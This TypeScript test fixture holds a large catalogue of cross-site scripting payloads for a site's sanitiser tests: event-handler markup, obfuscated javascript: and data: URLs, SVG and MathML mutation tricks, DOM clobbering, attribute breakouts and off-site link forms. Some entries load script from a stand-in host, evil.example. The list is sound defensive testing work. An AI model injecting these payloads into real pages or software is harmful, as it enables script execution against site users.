/**
 * Hostile values for every field the site renders (issue 10): markup and URLs that run script if
 * any layer lets them through. Each one that runs calls `alert` or sets `top.__xss`, which the
 * browser suite watches. Written for this project as data; no entry is expected to survive.
 */

/** What a payload runs when it works. */
const RUN = 'top.__xss=1;alert(1)';

/** Elements that take event handlers in one form or another. */
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'iframe src=about:blank',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'details open',
  'marquee',
  'object data=x',
  'embed src=x',
  'a href=#',
  'div tabindex=0 autofocus',
  'image src=x',
  'math',
  'table background=x',
  'style',
  'link rel=stylesheet href=x',
  'picture',
  'source src=x',
  'track src=x',
  'form',
  'button autofocus',
  'keygen autofocus',
  'isindex',
  'frameset',
];

const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
];

/** Each tag with one or two handlers, written in a few spellings. */
const handlers: string[] = TAGS.flatMap((tag, i) => {
  const event = EVENTS[i % EVENTS.length] ?? 'onerror';
  const other = EVENTS[(i + 3) % EVENTS.length] ?? 'onload';
  const name = tag.split(' ')[0] ?? tag;
  return [
    `<${tag} ${event}=${RUN}>`,
    `<${tag.toUpperCase()} ${other.toUpperCase()}="${RUN}"></${name}>`,
  ];
});

/** `javascript:`, `data:` and `vbscript:` in every disguise, as bare values and in markup. */
const schemes: string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  'jav&#x09;ascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
  'javascript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//',
  'javascript://%0aalert(1)',
  'javascript:%61lert(1)',
  'jAvAsCrIpT\u0000:alert(1)',
  '\u2028javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:image/svg+xml,<svg onload=alert(1)>',
  'data:application/javascript,alert(1)',
  'vbscript:msgbox(1)',
  'VbScRiPt:MsgBox(1)',
  'livescript:alert(1)',
  '//evil.example/x.js',
  '/\\evil.example',
  '\\\\evil.example\\x',
  '/\t/evil.example',
  'https:\\\\evil.example',
  'http://evil.example/"onmouseover="alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)" target="_blank">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<img srcset="javascript:alert(1) 1x">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript&colon;alert&lpar;1&rpar;">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
];

/** Mutation XSS through SVG, MathML and parser quirks. */
const mutations: string[] = [
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/><a id="x"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi><table><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=alert(1)>">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<math href="javascript:alert(1)">click</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)//<</script>/script>',
  '<img """><script>alert(1)</script>">',
  '<a href="x" title="</a><img src=x onerror=alert(1)>">x</a>',
  '<table><td background="javascript:alert(1)">',
  '<svg><image href="x" onerror="alert(1)"/></svg>',
  '<svg><discard onbegin=alert(1)>',
  '<svg xmlns="http://www.w3.org/2000/svg"><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
];

/** Whole-page tricks: base, meta refresh, srcdoc, forms, DOM clobbering, CSS. */
const documentTricks: string[] = [
  '<base href="javascript:alert(1)//">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<iframe srcdoc="<script>top.__xss=1;alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<form id="app-state"><input name="textContent" value="{}"></form>',
  '<isindex action="javascript:alert(1)" type=submit>',
  '<input type="image" src="x" onerror="alert(1)">',
  '<a id="app-state">x</a><a id="app-state" name="textContent">y</a>',
  '<img name="getElementById"><img name="cookie">',
  '<div id="mount-main">x</div>',
  '<p id="Didomi"><a id="Didomi" name="preferences">x</a></p>',
  '<img name="querySelector" id="defaultView">',
  '<span id="__proto__">x</span>',
  '<style>@import "javascript:alert(1)";</style>',
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<p style="x:\\65 xpression(alert(1))">x</p>',
  '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
  '<object type="text/x-scriptlet" data="x"></object>',
  '<applet code="x"></applet>',
  '<portal src="javascript:alert(1)"></portal>',
  '<a href="#" ping="https://evil.example/">x</a>',
  '<a href="https://evil.example" target="_blank">opener</a>',
  '<img src="https://evil.example/x.png" referrerpolicy="unsafe-url">',
  '<script src="https://evil.example/x.js"></script>',
  '<script>alert(1)</script>',
  '<SCRIPT>top.__xss=1</SCRIPT>',
  '<script type="module">alert(1)</script>',
  '<script/src=data:,alert(1)></script>',
  '<div data-bind="alert(1)" v-html="x" x-init="alert(1)">{{constructor.constructor("alert(1)")()}}</div>',
];

/** Values that try to leave the attribute, the text or the hydration JSON they land in. */
const breakOuts: string[] = [
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '` onmouseover=alert(1) `',
  '"/><svg onload=alert(1)>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</SCRIPT ><script>alert(1)</script>',
  '</script\t><img src=x onerror=alert(1)>',
  '<!--</script><script>alert(1)//-->',
  '<\u0000script>alert(1)</script>',
  '\u2028</script><script>alert(1)</script>\u2029',
  '\u2028alert(1)\u2029',
  '"}]}</script><script>alert(1)</script>',
  '\\u003c/script\\u003e<img src=x onerror=alert(1)>',
  '{"__proto__":{"polluted":1}}',
  '${alert(1)}',
  '{{7*7}}<%= 7*7 %>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '\ud800<img src=x onerror=alert(1)>',
  '\u202e<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert`1`>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
  '<img src=x onerror="\\u0061lert(1)">',
  '<img src=x:x onerror=window["al"+"ert"](1)>',
  '<svg/onload=alert(1)//',
  '<img/src/onerror=alert(1)>',
  '<img src=x\nonerror=alert(1)>',
  '<img src=x\u000conerror=alert(1)>',
  'app-state',
  'mount-main',
  'mount-header',
  '1:x[',
  'x'.repeat(300),
];

/**
 * Links that leave the site while looking like paths, bare (link fields, `urlOG`) and in rich
 * text; and a real external address, which may stay a link (docs/security.md).
 */
export const OFF_SITE_LINKS: readonly string[] = [
  '//evil.example/x',
  '/\\evil.example/y',
  'javascript:alert(1)',
  'https://evil.example',
  '<p><a href="//evil.example/x">relatif</a> <a href="/\\evil.example/y">oblique</a></p>',
  '<p><a href="\\\\evil.example">double</a> <a href="\\/evil.example">inverse</a></p>',
  '<p><a href="/&#92;evil.example">entité</a> <a href="/&#x09;/evil.example">tabulation</a></p>',
  '<p><a href="/\n/evil.example">saut</a> <a href="  //evil.example">espaces</a></p>',
  '<p><a href="/%5Cevil.example">encodé</a> <a href="https:\\\\evil.example">schéma</a></p>',
  '<p><a href="https://evil.example/ok">externe</a> <a href="/fr/accueil">interne</a></p>',
];

const unique = (values: string[]): string[] => [...new Set(values)];

/** Every payload, each once. */
export const XSS_PAYLOADS: readonly string[] = unique([
  ...handlers,
  ...schemes,
  ...mutations,
  ...documentTricks,
  ...breakOuts,
  ...OFF_SITE_LINKS,
]);

/**
 * A few of each family for the browser suite, which renders pages one by one: the families'
 * first two entries and every fifteenth of the rest.
 */
export const XSS_SAMPLE: readonly string[] = unique([
  ...handlers.slice(0, 2),
  ...schemes.slice(0, 2),
  ...mutations.slice(0, 2),
  ...documentTricks.slice(5, 7),
  ...breakOuts.slice(0, 2),
  ...XSS_PAYLOADS.filter((_, i) => i % 15 === 7),
]);
